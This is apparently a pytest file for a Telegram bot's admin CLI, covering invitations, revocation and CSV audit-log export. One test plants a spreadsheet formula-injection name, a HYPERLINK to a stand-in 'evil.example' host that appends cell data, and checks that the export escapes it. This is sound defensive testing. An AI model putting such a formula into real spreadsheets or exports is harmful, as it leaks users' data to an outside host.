"""`satudata admin`: the first walidata from the command line, people, revocation, and the
audit log as CSV; and /audit in chat."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import sqlite3
import subprocess
from pathlib import Path

import pytest

from bot.wiring import build_runtime

from .cli_runner import cli_env, satudata
from .conftest import NOW, settings_for
from .people_helpers import ACCOUNTS, STRANGER, bind_accounts, only, say
from .test_cli import assert_one_line_error

# Not `\b`: a token may end in "-", after which there is no word boundary.
TOKEN = re.compile(r"/start ([A-Za-z0-9_-]{32})(?![A-Za-z0-9_-])")


def admin(database: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
    return satudata("admin", *args, cwd=database.parent, env=cli_env(database, **env))


def test_the_first_walidata_is_invited_from_the_command_line(demo_db: Path) -> None:
    result = admin(
        demo_db,
        "invite",
        "--role",
        "walidata",
        "--name",
        "Dewi Lestari",
        TELEGRAM_BOT_USERNAME="satudata_jatim_bot",
    )

    assert result.returncode == 0, result.stderr
    token = TOKEN.search(result.stdout).group(1)  # type: ignore[union-attr]
    assert f"Link: https://t.me/satudata_jatim_bot?start={token}" in result.stdout
    assert "Invitation for Dewi Lestari as walidata, valid until 2026-" in result.stdout

    async def accept() -> tuple[str, str]:
        runtime = await build_runtime(settings_for(demo_db), NOW)
        try:
            welcome = only(await say(runtime, f"/start {token}", user=STRANGER))
            invite = only(await say(runtime, "/undang Budi", user=STRANGER))
        finally:
            await runtime.close()
        return welcome.text, invite.text

    welcome, invite = asyncio.run(accept())
    assert welcome.startswith("Selamat datang, Dewi Lestari!")
    assert invite.startswith("Undangan untuk Budi. Pilih perannya:")


def test_someone_in_the_registry_is_linked_with_their_roles_by_person(demo_db: Path) -> None:
    result = admin(demo_db, "invite", "--person", "Andi Prasetyo")

    assert result.returncode == 0, result.stderr
    assert "Invitation for Andi Prasetyo (already in the registry) as walidata" in result.stdout
    token = TOKEN.search(result.stdout).group(1)  # type: ignore[union-attr]

    async def accept() -> str:
        runtime = await build_runtime(settings_for(demo_db), NOW)
        try:
            welcome = only(await say(runtime, f"/start {token}", user=STRANGER))
            async with runtime.uow() as uow:
                andis = [p for p in await uow.people.all() if p.name == "Andi Prasetyo"]
        finally:
            await runtime.close()
        assert [(p.telegram_user_id, p.role_names) for p in andis] == [(STRANGER, {"walidata"})]
        return welcome.text

    assert asyncio.run(accept()).startswith("Selamat datang, Andi Prasetyo!")


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (("--role", "pimpinan", "--name", "sri wahyuni"), ("already in the registry", "--person")),
        (("--person", "Sri Wahyuni"), ("already linked to a Telegram account", "revoke")),
        (("--person", "Tidak Ada"), ("no person with id or name",)),
    ],
)
def test_a_link_never_binds_someone_already_linked_or_named_twice(
    demo_db: Path, args: tuple[str, ...], words: tuple[str, ...]
) -> None:
    bind_accounts(demo_db)

    assert_one_line_error(admin(demo_db, "invite", *args), *words)
    assert "invitation_issued" not in admin(demo_db, "audit", "--since", "2020-01-01").stdout


def test_without_a_bot_username_the_start_form_is_printed(demo_db: Path) -> None:
    result = admin(demo_db, "invite", "--role", "pimpinan", "--name", "Sekda")

    assert result.returncode == 0, result.stderr
    assert "set TELEGRAM_BOT_USERNAME" in result.stdout
    assert TOKEN.search(result.stdout)


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (("--role", "produsen", "--name", "Budi"), ("--opd is required",)),
        (("--role", "produsen", "--name", "Budi", "--opd", "dinas-x"), ("no such OPD", "dinkes")),
        (("--role", "pimpinan", "--name", "Budi", "--days", "0"), ("--days",)),
        (("--role", "pimpinan", "--name", "   "), ("--name",)),
        (("--name", "Budi"), ("--role is required",)),
    ],
)
def test_bad_invitations_exit_2_with_one_line(
    demo_db: Path, args: tuple[str, ...], words: tuple[str, ...]
) -> None:
    assert_one_line_error(admin(demo_db, "invite", *args), *words)


def test_an_unknown_role_is_refused_by_the_parser(demo_db: Path) -> None:
    result = admin(demo_db, "invite", "--role", "raja", "--name", "Budi")

    assert result.returncode == 2
    assert "invalid choice: 'raja'" in result.stderr


def test_people_are_listed_and_revoked(demo_db: Path) -> None:
    bind_accounts(demo_db)

    listed = admin(demo_db, "list-people")
    revoked = admin(demo_db, "revoke", "Nur Aini")
    again = admin(demo_db, "list-people")
    unknown = admin(demo_db, "revoke", "Tidak Ada")

    assert listed.returncode == revoked.returncode == 0, listed.stderr + revoked.stderr
    assert re.search(r"Nur Aini\s+produsen\s+disnakertrans\s+linked\s+yes", listed.stdout)
    assert "Revoked every role of Nur Aini" in revoked.stdout
    assert re.search(r"Nur Aini\s+-\s+disnakertrans\s+-\s+no", again.stdout)
    assert_one_line_error(unknown, "no person with id or name 'Tidak Ada'")


def test_the_audit_log_exports_as_csv_since_a_day(demo_db: Path) -> None:
    bind_accounts(demo_db)
    admin(demo_db, "invite", "--role", "pimpinan", "--name", "Sekda")
    admin(demo_db, "revoke", "Nur Aini")

    result = admin(demo_db, "audit", "--since", "2020-01-01", "--format", "csv")
    future = admin(demo_db, "audit", "--since", "2999-01-01")

    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["action"] for r in rows] == ["invitation_issued", "person_revoked"]
    assert json.loads(rows[0]["detail"])["via"] == "cli"
    assert json.loads(rows[1]["detail"])["name"] == "Nur Aini"
    assert rows[1]["person_id"] == "" and rows[1]["chat_id"] == ""
    assert future.stdout.strip() == "id,at,person_id,person,chat_id,action,detail"


def test_a_name_that_is_a_formula_stays_text_in_the_csv(demo_db: Path) -> None:
    """An imported or typed name must not run as a formula when the walidata opens the
    export in a spreadsheet."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    with sqlite3.connect(demo_db) as conn:
        conn.execute("UPDATE people SET name = ? WHERE name = 'Nur Aini'", (evil,))
        conn.execute(
            "INSERT INTO audit_log (at, person_id, chat_id, action, detail) SELECT"
            " '2026-11-20 01:00:00', id, -1001, 'group_registered', '{}' FROM people"
            " WHERE name = ?",
            (evil,),
        )
    conn.close()

    result = admin(demo_db, "audit", "--since", "2020-01-01")

    assert result.returncode == 0, result.stderr
    (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
    assert row["person"] == "'" + evil and row["chat_id"] == "-1001"


@pytest.mark.parametrize("since", ["kemarin", "2026-13-01", "01/11/2026"])
def test_a_bad_date_exits_2_with_one_line(demo_db: Path, since: str) -> None:
    assert_one_line_error(admin(demo_db, "audit", "--since", since), "--since", "2026-11-01")


# --- /audit in chat -----------------------------------------------------------------------------


async def test_audit_shows_the_walidata_the_latest_entries(demo_db: Path) -> None:
    bind_accounts(demo_db)
    runtime = await build_runtime(settings_for(demo_db), NOW)
    walidata = ACCOUNTS["Andi Prasetyo"]
    try:
        await say(runtime, "/undang Budi Santoso", user=walidata)
        choose = only(await say(runtime, "/undang Citra Dewi", user=walidata))
        await say(runtime, callback_data=choose.buttons[1][0].data, user=walidata)  # pimpinan
        await say(runtime, "/undang Dodi", user=walidata)
        latest = only(await say(runtime, "/audit 1", user=walidata))
        default = only(await say(runtime, "/audit", user=walidata))
        bad = [only(await say(runtime, f"/audit {n}", user=walidata)) for n in ("0", "x", "101")]
        public = only(await say(runtime, "/audit", user=STRANGER))
    finally:
        await runtime.close()

    assert latest.text.startswith("🧾 Catatan audit (1 terbaru, waktu WIB)")
    assert (
        f"• 22 November 2026 10.00 · Andi Prasetyo · chat {walidata} · invitation_issued: "
        "invitation=2 name=Citra Dewi role=pimpinan"
    ) in latest.text
    assert "Citra Dewi" in default.text
    assert all(r.text == "Tulis jumlah entri sebagai angka 1–100, misalnya: /audit 50" for r in bad)
    assert public.text.startswith("Perintah dan tombol ini hanya untuk walidata.")
